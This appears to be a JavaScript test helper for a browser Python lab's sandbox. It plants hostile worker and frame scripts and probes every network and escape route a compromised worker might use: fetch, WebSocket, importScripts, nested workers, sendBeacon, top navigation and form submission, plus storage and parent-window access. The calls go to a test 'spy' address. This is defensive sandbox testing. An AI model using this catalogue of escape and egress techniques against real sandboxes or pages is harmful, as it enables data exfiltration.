// What somebody could try who has got at the worker's JavaScript, or at the frame: scripts in the place of
// ours. Functions here are sent as text and run in the worker.
import {copyFile, mkdir, writeFile} from 'node:fs/promises';
import path from 'node:path';

import {DIST, TEST_PAGES} from './browser.js';

const FOLDER = path.join(TEST_PAGES, 'hostile');
const EMPTY_WASM = Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0);

/**
 * Says that it is ready, and runs a function by its name: no browser lets it make code out of text, and
 * Firefox not out of a blob either.
 *
 * @param {Record<string, string>} runs
 */
const workerText = (runs) => `
const {postMessage: post} = self;
let id;
const say = (value) => post({type: 'print', run: id, text: JSON.stringify(value)});
const answer = {error: null, results: [], figures: [], isCut: false, ms: 1};
const done = (more = {}) => post({type: 'done', run: id, ...answer, ...more});
const runs = {${Object.entries(runs).map(([name, text]) => `${JSON.stringify(name)}: (spy) => {${text}}`)}};
onmessage = ({data}) => {
  if (data.type === 'asset') return data.name === 'library' && post({type: 'ready'});
  id = data.run;
  runs[data.code](data.steps[0]);
};`;

/** Tries to leave with the whole frame: a window can do more than a worker. @param {string} spy */
function leave(spy) {
  const own = /** @type {any} */ (self);
  const tries = [
    () => (document.body.innerHTML = `<img src="${spy}img"><iframe src="${spy}iframe"></iframe>`),
    () => (document.body.innerHTML += `<form action="${spy}form"></form><a href="${spy}a"></a>`),
    () => /** @type {any} */ (document.querySelector('form')).submit(),
    () => /** @type {any} */ (document.querySelector('a')).click(),
    () => open(`${spy}open`),
    () => fetch(`${spy}frame-fetch`),
    () => navigator.sendBeacon(`${spy}beacon`),
    () => own.top.location.assign(`${spy}top`),
    () => own.parent.document.write('taken'),
    () => (location.href = `${spy}location`),
  ];
  for (const one of tries) {
    try {
      one();
    } catch {
      // refused at once
    }
  }
}

/**
 * The lab's folder with a worker, or with a frame, that is not ours.
 *
 * @param {string} spy its address
 * @param {Record<string, string>} runs what the worker can do, by name
 */
export async function makeHostileLabs(spy, runs) {
  for (const [name, isFrame] of /** @type {const} */ ([
    ['worker', false],
    ['frame', true],
  ])) {
    const folder = path.join(FOLDER, name, 'python');
    await mkdir(folder, {recursive: true});
    await copyFile(path.join(DIST, 'lab/core.wasm'), path.join(folder, '../core.wasm'));
    await writeFile(path.join(folder, 'python.wasm'), EMPTY_WASM);
    await writeFile(path.join(folder, 'library.bin'), '');
    await writeFile(path.join(folder, 'worker.js'), workerText(runs));
    const frame = path.join(folder, 'frame.js');
    const script = `addEventListener('load', () => (${leave})(${JSON.stringify(spy)}));`;
    if (isFrame) await writeFile(frame, script);
    else await copyFile(path.join(DIST, 'lab/python/frame.js'), frame);
  }
}

/** The address's part that names the lab's folder. @param {'worker' | 'frame'} name */
export const hostileQuery = (name) => `?lab=../hostile/${name}/x.js`;

/* What follows runs in the worker, which has `say` and `done`. */
const {say, done} = /** @type {any} */ (globalThis);

/** Every way to the network that a worker has or may have. @param {string} spy */
export async function network(spy) {
  const own = /** @type {any} */ (self);
  const late = () => new Promise((resolve) => setTimeout(resolve, 1500, 'no answer'));
  const heard = (/** @type {any} */ target, /** @type {string} */ good) =>
    new Promise((resolve, reject) => {
      target.addEventListener(good, () => resolve('came through'));
      target.addEventListener('error', (/** @type {Event} */ event) => {
        event.preventDefault(); // else the error of a nested worker is this one's too
        reject(new Error('error'));
      });
    });
  const blob = (/** @type {string} */ text) => URL.createObjectURL(new Blob([text]));
  const xhr = (/** @type {boolean} */ isAsync) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${spy}xhr-${isAsync}`, isAsync);
    const answered = isAsync ? heard(request, 'load') : 'came through';
    request.send();
    return answered;
  };
  /** @type {Record<string, () => any>} */
  const ways = {
    fetch: () => fetch(`${spy}fetch`),
    'fetch, no-cors': () => fetch(`${spy}no-cors`, {mode: 'no-cors'}),
    'fetch, keepalive': () =>
      fetch(`${spy}keepalive`, {keepalive: true, method: 'POST', body: 'x'}),
    XMLHttpRequest: () => xhr(true),
    'XMLHttpRequest, synchronous': () => xhr(false),
    WebSocket: () => heard(new WebSocket(`${spy.replace('http', 'ws')}websocket`), 'open'),
    EventSource: () => heard(new own.EventSource(`${spy}events`), 'open'),
    importScripts: () => own.importScripts(`${spy}script`),
    'import()': () => import(`${spy}script-module`),
    'new Worker(url)': () => heard(new Worker(`${spy}worker`), 'message'),
    'new Worker(url, module)': () =>
      heard(new Worker(`${spy}worker-module`, {type: 'module'}), 'message'),
    SharedWorker: () => new own.SharedWorker(`${spy}shared`),
    'fetch in a nested worker': () =>
      heard(
        new Worker(blob(`fetch('${spy}nested').then(() => postMessage(1), () => {})`)),
        'message',
      ),
    'importScripts in a nested worker': () =>
      heard(new Worker(blob(`importScripts('${spy}script-nested');postMessage(1)`)), 'message'),
    WebTransport: () => new own.WebTransport(spy.replace('http:', 'https:')).ready,
    RTCPeerConnection: () => new own.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1'}]}),
    sendBeacon: () => own.navigator.sendBeacon(`${spy}beacon`) && 'came through',
    'cache.add': async () => (await caches.open('x')).add(`${spy}cache`),
    FontFace: () => new own.FontFace('x', `url(${spy}font)`).load(),
    'compileStreaming(fetch)': () => WebAssembly.compileStreaming(fetch(`${spy}wasm`)),
    eval: () => own.eval('1'),
    'new Function': () => new own.Function('return 1')(),
  };
  /** @type {Record<string, string>} */
  const outcomes = {};
  const attempts = Object.entries(ways).map(async ([name, way]) => {
    const attempt = (async () => (await way()) && 'came through')();
    outcomes[name] = await Promise.race([attempt, late()]).catch(
      (error) => `refused: ${error?.name}`,
    );
  });
  await Promise.all(attempts);
  say(outcomes);
  done();
}

/** Storage, the page, and the window, which a worker has not. */
export async function environment() {
  const own = /** @type {any} */ (self);
  const opened = (/** @type {any} */ request) =>
    new Promise((resolve, reject) => {
      request.onsuccess = () => resolve('came through');
      request.onerror = () => reject(request.error);
    });
  /** @type {Record<string, () => any>} */
  const ways = {
    indexedDB: () => opened(indexedDB.open('x')),
    caches: async () => {
      await caches.open('from-worker');
      if (!(await caches.has('from-page'))) throw {name: 'an empty one of its own'};
    },
    OPFS: () => navigator.storage.getDirectory(),
    localStorage: () => own.localStorage.setItem('x', '1'),
    sessionStorage: () => own.sessionStorage.setItem('x', '1'),
    cookies: () => own.document.cookie,
    cookieStore: () => own.cookieStore.set('x', '1'),
    parent: () => own.parent.document,
    top: () => own.top.location,
    opener: () => own.opener.postMessage('x', '*'),
    location: () => own.location.assign('/'),
    serviceWorker: () => own.navigator.serviceWorker.register('x.js'),
    locks: () => own.navigator.locks.request('x', () => 1),
    SharedArrayBuffer: () => new own.SharedArrayBuffer(8),
  };
  new BroadcastChannel('exercises').postMessage('from the worker');
  /** @type {Record<string, string>} */
  const outcomes = {};
  for (const [name, way] of Object.entries(ways)) {
    try {
      await way();
      outcomes[name] = 'came through';
    } catch (error) {
      outcomes[name] = `refused: ${/** @type {any} */ (error)?.name}`;
    }
  }
  say(outcomes);
  done();
}
